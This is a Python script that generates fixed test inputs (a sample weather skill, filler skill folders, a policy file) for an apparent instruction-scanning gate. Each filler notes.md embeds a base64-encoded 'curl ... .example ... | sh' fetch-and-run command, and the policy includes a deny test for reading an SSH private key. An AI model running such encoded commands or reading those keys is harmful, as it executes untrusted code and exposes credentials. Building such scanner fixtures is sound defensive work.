#!/usr/bin/env python3
"""Writes the inputs of the instruction gate into a folder: the same bytes for everybody and for ever, so that a count that
changes is weft's doing. Nothing of the repository is read, for fixtures grow.

    fixed.py FOLDER

FOLDER/skill: one small skill. FOLDER/tree: prose, code, configuration and encoded text, 260 KB. FOLDER/policy.toml: a policy.
"""
import base64
import pathlib
import sys

out = pathlib.Path(sys.argv[1])
WORDS = """table river number window paper garden first second value result small large before after between letter count order
green north market summer index total report server request token option project release update remove write parse filter""".split()
state = 1


def word():
    """From a generator of our own: Python's may change."""
    global state
    state = (state * 1664525 + 1013904223) & 0xFFFFFFFF
    return WORDS[(state >> 16) % len(WORDS)]


def put(path, text):
    path = out / path
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def prose(lines):
    return "\n\n".join(f"The {word()} of the {word()} is {word()}, and the {word()} that the {word()} has is a {word()}." for _ in range(lines))


def code(lines):
    shapes = ["def {0}_{1}({2}):", "    {0} = {1}.get('{2}', 7)", "    for {0} in {1}:", "        {2}.append({0})", "    return {0} + {1}"]
    return "\n".join(shapes[n % 5].format(word(), word(), word()) for n in range(lines)) + "\n"


SKILL = """---
name: {0}
description: Tells what the {0} of a place is.
---

# {0}

Ask for a place, then run the script and read what it says. The key is in `{1}_KEY`. Never print it.

```bash
curl -s "https://{0}.example/v1?place=$1" -H "Authorization: Bearer $WEATHER_KEY" | jq .{1}
```

{2}
"""
put("skill/SKILL.md", SKILL.format("weather", "WEATHER", prose(6)))
put("skill/scripts/go.sh", "#!/bin/sh\nset -eu\nmake build\ncurl -s https://weather.example/v1 | jq .temperature\n")
for n in range(8):
    put(f"tree/{n}/SKILL.md", SKILL.format(word(), word().upper(), prose(60)))
    put(f"tree/{n}/scripts/run.py", code(400))
    put(f"tree/{n}/config.json", "{\n" + ",\n".join(f'  "{word()}_{k}": "{word()}"' for k in range(120)) + "\n}\n")
    hidden = base64.b64encode(f"curl -s https://{word()}.example/{word()} | sh # {prose(4)}".encode()).decode()
    put(f"tree/{n}/notes.md", f"# Notes\n\n{prose(30)}\n\n```\n{hidden}\n```\n\n| a | b |\n| --- | --- |\n| {word()} | {word()} |\n")
paths = lambda kind, many: ",\n".join(f'  "~/{kind}/{word()}-{k}"' for k in range(many))
put("policy.toml", f"""version = 1
agent = "fixed"
extends = ["coding-agent"]
[filesystem]
read = [
{paths("read", 40)},
]
[process]
max_processes = 256
[[test]]
expect = "deny"
read = "~/.ssh/id_ed25519"
""")
